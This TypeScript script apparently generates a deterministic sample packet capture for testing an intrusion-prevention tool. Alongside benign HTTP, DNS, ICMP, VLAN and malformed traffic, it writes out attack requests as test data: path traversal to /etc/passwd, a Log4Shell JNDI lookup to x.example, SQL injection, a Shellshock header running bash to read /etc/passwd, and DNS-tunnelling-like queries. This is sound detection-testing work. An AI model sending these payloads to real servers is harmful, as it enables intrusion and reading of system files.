/**
 * Generates pcaps/quell-sample.pcap: Quell's own demo and test capture, deterministic (fixed
 * timestamps from 2024-01-02T03:04:05Z, fixed ISNs, no randomness: the "random-looking" DNS
 * label is derived from a fixed hash). Documentation addresses only (192.0.2.0/24,
 * 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) and example.com / .test names.
 *
 *   npx tsc -p . && node dist/pcaps/make-sample.js [OUTPUT]     (default pcaps/quell-sample.pcap)
 *
 * Contents (the session list is also printed to stderr with packet numbers) are documented in
 * docs/capture.md. test/io/sample.test.ts checks that regenerating gives identical bytes.
 */
import * as fs from 'fs';
import * as path from 'path';
import { createHash } from 'crypto';
import {
  ETHERTYPE_IPV4, IPPROTO_TCP, IPPROTO_UDP, Trace, TcpSession, bytes, ethernet, icmpEchoFrame,
  ipv4, ipv4Fragments, tcp, udp, udpExchange,
} from '../src/io/craft';
import { dnsMessage, dnsQuery, tcpFramed } from '../src/io/craft-dns';

/** 2024-01-02T03:04:05Z */
export const SAMPLE_START = Date.UTC(2024, 0, 2, 3, 4, 5) / 1000;

export interface SampleSection { name: string; first: number; last: number }

const CLIENT = '192.0.2.10';
const CLIENT2 = '192.0.2.23';
const ATTACKER = '203.0.113.66';
const WEB = '198.51.100.80';
const DNS = '198.51.100.53';
const GAP = 50_000_000; // 50 ms between sections

function httpResponse(status: string, headers: Record<string, string>, body: string): string {
  const h = Object.entries(headers).map(([k, v]) => `${k}: ${v}\r\n`).join('');
  return `HTTP/1.1 ${status}\r\nServer: nginx\r\nDate: Tue, 02 Jan 2024 03:04:05 GMT\r\n${h}\r\n${body}`;
}

function okHtml(body: string, extra: Record<string, string> = {}): string {
  return httpResponse('200 OK', { 'Content-Type': 'text/html; charset=utf-8', 'Content-Length': String(body.length), ...extra }, body);
}

function notFound(): string {
  const body = '<html><body><h1>404 Not Found</h1></body></html>\n';
  return httpResponse('404 Not Found', { 'Content-Type': 'text/html', 'Content-Length': String(body.length) }, body);
}

function get(pathAndQuery: string, host: string, ua: string, extra: Record<string, string> = {}): string {
  const h = Object.entries(extra).map(([k, v]) => `${k}: ${v}\r\n`).join('');
  return `GET ${pathAndQuery} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${ua}\r\nAccept: */*\r\n${h}\r\n`;
}

const BROWSER_UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0';

/** A deterministic, random-looking DNS label of `n` chars [a-z0-9] (tunnelling-like). */
function randomLookingLabel(n: number): string {
  const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';
  let out = '';
  let block = createHash('sha256').update('quell-sample-dns-tunnel').digest();
  while (out.length < n) {
    for (const b of block) { if (out.length < n) out += alphabet[b & 31]; }
    block = createHash('sha256').update(block).digest();
  }
  return out;
}

export function makeSample(): { pcap: Uint8Array; sections: SampleSection[] } {
  const t = new Trace({ start: SAMPLE_START, stepNs: 1_000_000 });
  const sections: SampleSection[] = [];
  const section = (name: string, fn: () => void) => {
    const first = t.packets.length + 1;
    fn();
    sections.push({ name, first, last: t.packets.length });
    t.advance(GAP);
  };
  let cport = 49152;

  // ---- benign HTTP/1.1
  section('HTTP GET, response body in 3 segments, FIN close', () => {
    const body = '<!doctype html>\n<html><head><title>Example Domain</title></head>\n<body><h1>Example Domain</h1><p>This domain is for use in documentation examples.</p></body></html>\n';
    new TcpSession(t, { client: CLIENT, server: WEB, cport: cport++, sport: 80 })
      .handshake()
      .send('client', get('/index.html', 'www.example.com', BROWSER_UA))
      .send('server', okHtml(body), { segments: [120, 80] })
      .close('fin');
  });
  section('HTTP POST with a form body, JSON response', () => {
    const form = 'user=alice&comment=Hello%2C+world%21&lang=en';
    const json = '{"status":"created","id":4711}\n';
    new TcpSession(t, { client: CLIENT2, server: WEB, cport: cport++, sport: 80 })
      .handshake()
      .send('client', `POST /api/comments HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: ${BROWSER_UA}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${form.length}\r\n\r\n${form}`, { segments: [90] })
      .send('server', httpResponse('201 Created', { 'Content-Type': 'application/json', 'Content-Length': String(json.length) }, json))
      .close('fin', 'server');
  });
  section('HTTP keep-alive: two requests on one connection', () => {
    const css = 'body { font-family: sans-serif; }\n';
    const js = 'console.log("example");\n';
    new TcpSession(t, { client: CLIENT, server: WEB, cport: cport++, sport: 80 })
      .handshake()
      .send('client', get('/static/site.css', 'www.example.com', BROWSER_UA, { Connection: 'keep-alive' }))
      .send('server', httpResponse('200 OK', { 'Content-Type': 'text/css', 'Content-Length': String(css.length), Connection: 'keep-alive' }, css))
      .send('client', get('/static/app.js', 'www.example.com', BROWSER_UA, { Connection: 'keep-alive' }))
      .send('server', httpResponse('200 OK', { 'Content-Type': 'application/javascript', 'Content-Length': String(js.length), Connection: 'keep-alive' }, js))
      .close('fin');
  });
  section('HTTP chunked response (3 chunks across segments)', () => {
    const chunks = ['{"events":[', '{"id":1,"kind":"login"},{"id":2,"kind":"logout"}', ']}\n'];
    const body = chunks.map((c) => `${c.length.toString(16)}\r\n${c}\r\n`).join('') + '0\r\n\r\n';
    new TcpSession(t, { client: CLIENT2, server: WEB, cport: cport++, sport: 80 })
      .handshake()
      .send('client', get('/api/events', 'api.example.com', 'curl/8.5.0'))
      .send('server', httpResponse('200 OK', { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' }, body), { segments: [150, 30, 40] })
      .close('fin');
  });

  // ---- malicious HTTP requests (what a default IPS ruleset should catch)
  const attack = (name: string, req: string, close: 'fin' | 'rst' = 'fin') => section(name, () => {
    new TcpSession(t, { client: ATTACKER, server: WEB, cport: cport++, sport: 80, clientTtl: 49 })
      .handshake()
      .send('client', req)
      .send('server', notFound())
      .close(close);
  });
  attack('attack: path traversal GET /../../etc/passwd', get('/../../etc/passwd', 'www.example.com', 'curl/8.5.0'));
  attack('attack: Log4Shell ${jndi:ldap://x.example/a} in User-Agent', get('/', 'www.example.com', '${jndi:ldap://x.example/a}'));
  attack("attack: SQL injection ?id=1' OR '1'='1 in the query", get("/products.php?id=1'%20OR%20'1'='1", 'shop.example.com', BROWSER_UA));
  section("attack: SQL injection id=1' OR '1'='1 in a POST body", () => {
    const form = "id=1' OR '1'='1";
    new TcpSession(t, { client: ATTACKER, server: WEB, cport: cport++, sport: 80, clientTtl: 49 })
      .handshake()
      .send('client', `POST /login.php HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: ${BROWSER_UA}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${form.length}\r\n\r\n${form}`)
      .send('server', notFound())
      .close('rst', 'server');
  });
  attack('attack: Shellshock () { :; }; in the Referer header', get('/cgi-bin/status', 'www.example.com', BROWSER_UA, { Referer: '() { :; }; /bin/bash -c "cat /etc/passwd"' }));
  attack('scanner: sqlmap/1.7 User-Agent', get('/index.php?id=1', 'www.example.com', 'sqlmap/1.7#stable (https://sqlmap.org)'), 'rst');
  attack('scanner: Nikto User-Agent', get('/admin/', 'www.example.com', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'));

  // ---- DNS over UDP
  let dnsId = 0x1a2b;
  let dport = 53000;
  const dnsPair = (name: string, q: Uint8Array, a: Uint8Array, client = CLIENT, server = DNS, eth = {}) => section(name, () => {
    udpExchange(t, { client, server, cport: dport++, sport: 53, eth, messages: [{ from: 'client', data: q }, { from: 'server', data: a }] });
  });
  let id = dnsId++;
  dnsPair('DNS A www.example.com', dnsQuery(id, 'www.example.com', 'A'), dnsMessage({ id, response: true, question: { name: 'www.example.com', type: 'A' }, answers: [{ name: 'www.example.com', type: 'A', ttl: 3600, addr: '198.51.100.80' }] }));
  id = dnsId++;
  dnsPair('DNS AAAA www.example.com (over IPv6)', dnsQuery(id, 'www.example.com', 'AAAA'), dnsMessage({ id, response: true, question: { name: 'www.example.com', type: 'AAAA' }, answers: [{ name: 'www.example.com', type: 'AAAA', ttl: 3600, addr: '2001:db8::80' }] }), '2001:db8::10', '2001:db8::53');
  id = dnsId++;
  dnsPair('DNS CNAME alias.example.com -> www.example.com + A', dnsQuery(id, 'alias.example.com', 'A'), dnsMessage({ id, response: true, question: { name: 'alias.example.com', type: 'A' }, answers: [
    { name: 'alias.example.com', type: 'CNAME', ttl: 600, target: 'www.example.com' },
    { name: 'www.example.com', type: 'A', ttl: 3600, addr: '198.51.100.80' }] }));
  id = dnsId++;
  dnsPair('DNS MX example.com', dnsQuery(id, 'example.com', 'MX'), dnsMessage({ id, response: true, question: { name: 'example.com', type: 'MX' }, answers: [
    { name: 'example.com', type: 'MX', ttl: 3600, preference: 10, exchange: 'mail.example.com' },
    { name: 'example.com', type: 'MX', ttl: 3600, preference: 20, exchange: 'mail2.example.com' }] }));
  id = dnsId++;
  dnsPair('DNS TXT example.com', dnsQuery(id, 'example.com', 'TXT'), dnsMessage({ id, response: true, question: { name: 'example.com', type: 'TXT' }, answers: [
    { name: 'example.com', type: 'TXT', ttl: 300, texts: ['v=spf1 -all'] }] }));
  id = dnsId++;
  dnsPair('DNS NXDOMAIN nonexistent.test', dnsQuery(id, 'nonexistent.test', 'A'), dnsMessage({ id, response: true, rcode: 3, question: { name: 'nonexistent.test', type: 'A' } }));
  const tunnel = `${randomLookingLabel(60)}.t.example.test`;
  id = dnsId++;
  dnsPair('DNS tunnelling-like TXT query with a 60-char random-looking label', dnsQuery(id, tunnel, 'TXT'), dnsMessage({ id, response: true, question: { name: tunnel, type: 'TXT' }, answers: [
    { name: tunnel, type: 'TXT', ttl: 0, texts: [randomLookingLabel(48)] }] }), CLIENT2);

  // ---- DNS over TCP
  section('DNS over TCP: A example.com', () => {
    const qid = dnsId++;
    new TcpSession(t, { client: CLIENT, server: DNS, cport: cport++, sport: 53 })
      .handshake()
      .send('client', tcpFramed(dnsQuery(qid, 'example.com', 'A')))
      .send('server', tcpFramed(dnsMessage({ id: qid, response: true, question: { name: 'example.com', type: 'A' }, answers: [{ name: 'example.com', type: 'A', ttl: 3600, addr: '198.51.100.10' }] })))
      .close('fin');
  });

  // ---- IPv6 TCP
  section('IPv6 HTTP GET 2001:db8::10 -> 2001:db8::80', () => {
    const body = '<html><body>IPv6 works</body></html>\n';
    new TcpSession(t, { client: '2001:db8::10', server: '2001:db8::80', cport: cport++, sport: 80 })
      .handshake()
      .send('client', get('/v6.html', 'www.example.com', BROWSER_UA))
      .send('server', okHtml(body))
      .close('fin');
  });

  // ---- VLAN
  id = dnsId++;
  dnsPair('VLAN 100: DNS A query/answer', dnsQuery(id, 'intranet.example.com', 'A'), dnsMessage({ id, response: true, question: { name: 'intranet.example.com', type: 'A' }, answers: [{ name: 'intranet.example.com', type: 'A', addr: '192.0.2.200' }] }), CLIENT, DNS, { vlans: [100] });
  section('QinQ 802.1ad 200 + 802.1Q 100: ICMP echo request', () => {
    t.add(icmpEchoFrame(CLIENT, WEB, { id: 0x77, seq: 1, data: 'stacked vlan ping' }, { eth: { vlans: [200, 100] } }));
  });

  // ---- IPv4 fragments
  section('IPv4 fragmented UDP datagram (3 fragments, 3000 payload bytes)', () => {
    const payload = new Uint8Array(3000);
    for (let i = 0; i < payload.length; i++) payload[i] = (i * 7 + 3) & 0xff;
    const dgram = udp(CLIENT2, WEB, payload, { sport: 40400, dport: 9999 });
    for (const frag of ipv4Fragments(dgram, { src: CLIENT2, dst: WEB, proto: IPPROTO_UDP, id: 0xbeef }, 1480)) {
      t.add(ethernet(ETHERTYPE_IPV4, frag));
    }
  });

  // ---- ICMP
  section('ICMP echo request and reply', () => {
    t.add(icmpEchoFrame(CLIENT, WEB, { id: 0x4242, seq: 1, data: 'abcdefghijklmnopqrstuvwabcdefghi' }));
    t.add(icmpEchoFrame(WEB, CLIENT, { reply: true, id: 0x4242, seq: 1, data: 'abcdefghijklmnopqrstuvwabcdefghi' }, { eth: { src: '02:00:00:00:00:02', dst: '02:00:00:00:00:01' } }));
  });
  section('ICMPv6 echo request', () => {
    t.add(icmpEchoFrame('2001:db8::10', '2001:db8::80', { id: 7, seq: 1, data: 'ping6' }));
  });

  // ---- malformed
  section('malformed: IPv4 header length 4 words (< 5)', () => {
    const seg = tcp(CLIENT, WEB, new Uint8Array(0), { sport: 41000, dport: 80, seq: 1, flags: 'S' });
    t.add(ethernet(ETHERTYPE_IPV4, ipv4(seg, { src: CLIENT, dst: WEB, proto: IPPROTO_TCP, ihl: 4 })));
  });
  section('malformed: truncated TCP header (10 of 20 bytes)', () => {
    const seg = tcp(CLIENT, WEB, new Uint8Array(0), { sport: 41001, dport: 80, seq: 1, flags: 'S' }).subarray(0, 10);
    t.add(ethernet(ETHERTYPE_IPV4, ipv4(seg, { src: CLIENT, dst: WEB, proto: IPPROTO_TCP })));
  });
  section('malformed: TCP data offset 3 words (< 5)', () => {
    const seg = tcp(CLIENT, WEB, bytes('xx'), { sport: 41002, dport: 80, seq: 1, flags: 'PA', ack: 1, dataOffset: 3 });
    t.add(ethernet(ETHERTYPE_IPV4, ipv4(seg, { src: CLIENT, dst: WEB, proto: IPPROTO_TCP })));
  });
  section('malformed: IPv4 total length beyond the frame, bad header checksum', () => {
    const dg = udp(CLIENT, DNS, bytes('short'), { sport: 41003, dport: 53 });
    t.add(ethernet(ETHERTYPE_IPV4, ipv4(dg, { src: CLIENT, dst: DNS, proto: IPPROTO_UDP, totalLength: 1400, badChecksum: true })));
  });

  return { pcap: t.toPcap(), sections };
}

export const SAMPLE_PATH = path.resolve(__dirname, '..', '..', 'pcaps', 'quell-sample.pcap');

if (require.main === module) {
  const out = process.argv[2] ?? SAMPLE_PATH;
  const { pcap, sections } = makeSample();
  fs.writeFileSync(out, pcap);
  for (const s of sections) process.stderr.write(`${String(s.first).padStart(4)}-${String(s.last).padEnd(4)} ${s.name}\n`);
  process.stderr.write(`wrote ${out}: ${sections[sections.length - 1].last} packets, ${pcap.length} bytes\n`);
}
